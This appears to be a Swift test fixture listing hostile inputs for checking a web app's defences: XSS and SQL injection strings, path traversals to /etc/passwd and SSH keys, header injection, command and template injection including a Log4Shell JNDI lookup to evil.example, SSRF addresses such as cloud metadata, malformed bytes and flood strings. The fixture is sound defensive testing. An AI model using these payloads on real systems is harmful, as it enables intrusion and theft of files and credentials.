extension HostileText {
  static let all: [HostileText] =
    scripts + queries + traversals + headers + bytesOfTheWrongKind + invisible + numbers + templates + addresses
    + floods

  /// Scripts for all positions of text in a page.
  static let scripts: [HostileText] = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "` onerror=`alert(1)`", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1)>",
    "<svg><script>alert&#40;1)</script>", "<svg><use href=\"data:image/svg+xml,<svg onload=alert(1)>\"/>",
    "<math><mtext></mtext><script>alert(1)</script></math>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=\"javascript:alert(1)\">x</a>", "javascript:alert(1)", "JaVaScRiPt&colon;alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>", "\" style=\"background:url(//evil.example)", "<!--",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3C;script&#x3E;", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<form action=//evil.example><input name=x>",
    "<textarea></textarea><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<details open ontoggle=alert(1)>",
    "\"/><circle r=\"1e9\" onload=\"alert(1)",
    "';alert(1);//", "\";alert(1);//", "</script><script>alert(1)</script>", "<\u{0}script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞", "<scr\u{0}ipt>", "<<script>>alert(1)//<</script>>", "<x onclick=alert(1)//",
  ].map { HostileText($0) }

  static let queries: [HostileText] = [
    "' OR '1'='1", "'; DROP TABLE visitors; --", "1; DELETE FROM favorites", "\" OR \"\"=\"",
    "1 UNION SELECT * FROM sqlite_master--",
    "admin'--", "') OR ('a'='a", "1' AND randomblob(1000000000)--", "%' ESCAPE '\\",
    "x'; ATTACH DATABASE '/tmp/x' AS y;--",
    "\\'; SELECT load_extension('x');--", "NULL", "1/**/OR/**/1=1",
  ].map { HostileText($0) }

  static let traversals: [HostileText] = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "//etc/passwd", "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd",
    "..;/..;/etc/passwd",
    "file:///etc/passwd", "/proc/self/environ", "../Package.swift", "../Templates/weather.mustache", ".git/config",
    "~/.ssh/id_rsa",
    "icons/../../Templates/layout.mustache", "cloudy.css/../../x", "C:\\boot.ini", "\\\\evil.example\\share", "./././",
    "..", ".",
    "con", "%00/etc/passwd", "x%00.json", "weather.mustache",
  ].map { HostileText($0) }

  static let headers: [HostileText] = [
    "x\r\nSet-Cookie: session=evil", "x\nLocation: //evil.example", "x\rX-Evil: 1", "%0d%0aSet-Cookie:%20a=b",
    "%E5%98%8A%E5%98%8DSet-Cookie:a=b",
    "x\r\n\r\n<script>alert(1)</script>", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\n",
    "a; Domain=evil.example; Path=/", "x\u{B}y\u{C}z",
    "2026-11-21T12:00:00Z level=error msg=\"forged\"", "x\n2026-11-21 ERROR forged line",
    "\u{1B}[2J\u{1B}[31mforged\u{7}",
    "evil.example", "evil.example:80@localhost", "localhost:8080\r\nX: y", "127.0.0.1, 10.0.0.1, evil",
    "for=\"_evil\";proto=\"javascript\"",
    "[::1]:99999", "text/html;q=\"\u{0}\"", "*/*;q=nan", "text/html\r\nX: y", "\u{2028}x\u{2029}y\u{85}z",
  ].map { HostileText($0) }

  static let bytesOfTheWrongKind: [HostileText] = [
    [0], [0, 0, 0], [0x61, 0, 0x62], [0xFF, 0xFE], [0xC0, 0xAF], [0xE0, 0x80, 0xAF], [0xF0, 0x80, 0x80, 0xAF],
    [0xC0, 0xBC, 0x73],
    [0xED, 0xA0, 0x80], [0xED, 0xB0, 0x80, 0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80],
    [0xE2, 0x82],
    [0x80], [0xEF, 0xBF, 0xBE], [0xEF, 0xBB, 0xBF, 0x61], [0x7F, 0x1B, 0x9B, 0x08], Array(0...31), Array(128...255),
  ].map { HostileText(bytes: $0) }

  /// Characters that change the text direction, or are invisible.
  static let invisible: [HostileText] = [
    "\u{202E}drowssap\u{202C}", "\u{2066}a\u{2067}b\u{2068}c\u{2069}", "a\u{200B}b\u{200C}c\u{200D}d\u{2060}e\u{FEFF}f",
    "\u{E0001}\u{E0041}\u{E007F}",
    "\u{61C}\u{200E}\u{200F}", "pаypal", "𝕓𝕣𝕦𝕤𝕤𝕖𝕝𝕤", "Ｂｒｕｓｓｅｌｓ", "\u{FFF9}a\u{FFFA}b\u{FFFB}",
    "\u{34F}\u{17B4}\u{3164}\u{115F}",
    "👩‍👩‍👧‍👦🏳️‍🌈🇧🇪", "\u{1F1E6}", "é\u{301}\u{301}", "ﷺ﷽", "İıſK", "ß".uppercased() + "ŉ", "القُدْس", "ירושלים <b>",
    "\u{AD}\u{180E}",
  ].map { HostileText($0) }

  static let numbers: [HostileText] = [
    "nan", "NaN", "inf", "-inf", "Infinity", "1e309", "-1e309", "1e-400", "-0", "-0.0", "0x7fffffffffffffff",
    "9223372036854775808",
    "-9223372036854775809", "99999999999999999999999999", "1.7976931348623157e308", "0.1e1", "1_000", "1,000", "+1",
    " 1", "1 ", "٤٢", "Ⅷ", "½",
    "2147483648", "-1", "0", "00", "1e", ".", "nan,nan", "inf,-inf", "1e309,1e309", "90.0000001,180.0000001",
    "-90,-180.1", "0,361", "1,2,3",
    "50.85,4.35;50.85,4.35", "50.85,4.35\u{0}", "90,1e2",
  ].map { HostileText($0) }

  static let templates: [HostileText] = [
    "{{frame.title}}", "{{{frame.title}}}", "{{&frame.title}}", "{{>layout}}", "{{>*icon}}", "{{#frame}}x{{/frame}}",
    "{{=<% %>=}}<%frame%>",
    "{{<layout}}{{$content}}x{{/content}}{{/layout}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{%raw%}",
    "{{constructor.constructor('alert(1)')()}}",
    "__proto__", "constructor.prototype", "__proto__[x]=1", "%n%n%s%s%x", "%@%@%@", "$(id)", "`id`", "; id",
    "| cat /etc/passwd", "() { :;}; id",
    "${jndi:ldap://evil.example/x}", "%l%t%%%q", "%", "%2", "\\n\\t\\0",
  ].map { HostileText($0) }

  /// URLs of machines that the server must not contact, and sites to which it must not redirect.
  static let addresses: [HostileText] = [
    "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "http://[::1]/",
    "http://localhost:8080/metrics", "gopher://127.0.0.1:6379/_x",
    "dict://127.0.0.1:11211/", "ftp://evil.example/", "//evil.example", "///evil.example", "/\\evil.example",
    "\\\\evil.example", "/\t/evil.example",
    "https:evil.example", "https:/evil.example", "/%2f/evil.example", "/%5cevil.example", "//evil%E3%80%82example",
    "http://user:pass@evil.example/",
    "/..//evil.example", "?//evil.example", "#//evil.example", "/@evil.example", "http:\\\\evil.example",
    "http://0x7f000001/", "http://2130706433/",
  ].map { HostileText($0) }

  static let floods: [HostileText] =
    [
      String(repeating: "a", count: 3000), String(repeating: "<", count: 1000),
      String(repeating: "a\u{301}", count: 600),
      "a" + String(repeating: "\u{300}", count: 1000), String(repeating: "💥", count: 500),
      String(repeating: "../", count: 700),
      String(repeating: "%25", count: 700), String(repeating: "&", count: 2000), String(repeating: "=", count: 2000),
      String(repeating: ",", count: 2000), String(repeating: ";", count: 2000), String(repeating: "a=b&", count: 800),
      String(repeating: " ", count: 2000), String(repeating: "\u{202E}", count: 500),
      String(repeating: "%t", count: 150),
      String(repeating: "sain", count: 49), String(repeating: "a b ", count: 50), String(repeating: "\"", count: 1500),
    ].map { HostileText($0) }
}
